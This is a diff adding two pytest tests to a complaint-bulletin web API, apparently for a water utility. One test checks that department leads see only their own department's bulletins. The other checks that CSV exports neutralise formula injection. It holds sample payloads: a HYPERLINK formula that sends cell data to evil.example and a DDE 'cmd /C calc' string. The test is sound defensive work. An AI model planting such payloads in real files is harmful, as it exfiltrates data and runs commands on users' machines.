@@ -164,3 +164,44 @@ def test_the_weekly_job_stores_each_departments_bulletin_once(client, office, ba
         client.get("/api/complaints/bulletins/999999", headers=office.h(office.gm)).status_code
         == 404
     )
+
+
+def test_a_lead_reads_only_their_own_departments_bulletins(client, office, bad_week, run_jobs):
+    """Audit item 1: the complaint visibility rule holds for every bulletin route and format."""
+    year, week = rules.previous_week(utcnow())
+    other = office.h(office.supervisor)  # leads 客户服务中心, not 水质管理部
+    water = office.department.id
+    for fmt in ("json", "csv", "html"):
+        resp = client.get(
+            f"/api/complaints/bulletins/{year}/{week}?department_id={water}&format={fmt}",
+            headers=other,
+        )
+        assert resp.status_code == 404, (fmt, resp.data[:200])
+        assert bad_week["number"].encode() not in resp.data
+    mine = client.get(f"/api/complaints/bulletins/{year}/{week}", headers=other).json
+    assert [d["code"] for d in mine["departments"]] == ["KF"]
+    queue("low").enqueue(run, JOB)
+    run_jobs()
+    stored = db.session.scalars(sa.select(ComplaintBulletin)).all()
+    water_id = next(b.id for b in stored if b.department_id == water)
+    listed = client.get("/api/complaints/bulletins", headers=other).json
+    assert [i["department_id"] for i in listed["items"]] == [office.supervisor.team_id]
+    for fmt in ("json", "csv", "html"):
+        resp = client.get(f"/api/complaints/bulletins/{water_id}?format={fmt}", headers=other)
+        assert resp.status_code == 404 and bad_week["number"].encode() not in resp.data
+    own = client.get(f"/api/complaints/bulletins/{water_id}", headers=office.h(office.lead))
+    assert own.status_code == 200 and own.json["departments"][0]["justified"]
+
+
+def test_free_text_in_the_csv_never_runs_as_a_formula(client, office, handed_off):
+    """Audit item 2 (OWASP CSV injection): = + - @ tab CR at a cell's start are made text."""
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
+    for text in attacks:
+        handed_off(description=text)
+    year, week, _ = utcnow().astimezone(TZ).isocalendar()
+    resp = client.get(
+        f"/api/complaints/bulletins/{year}/{week}?format=csv", headers=office.h(office.gm)
+    )
+    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
+    details = sorted(r[6] for r in rows[1:] if r[2] == "经查属实的投诉")
+    assert details == sorted("'" + text for text in attacks)
